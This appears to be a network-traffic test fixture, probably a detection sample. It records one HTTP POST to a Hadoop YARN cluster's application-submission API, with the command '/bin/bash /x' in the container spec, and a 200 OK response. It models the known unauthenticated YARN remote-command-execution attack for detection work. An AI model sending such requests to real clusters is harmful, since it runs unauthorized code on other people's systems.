# Hadoop YARN, application with a shell command submitted.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:8088

>>>
POST /ws/v1/cluster/apps HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/json\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 82\r\n
\r\n
{"application-id":"a","am-container-spec":{"commands":{"command":"/bin/bash /x"}}}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
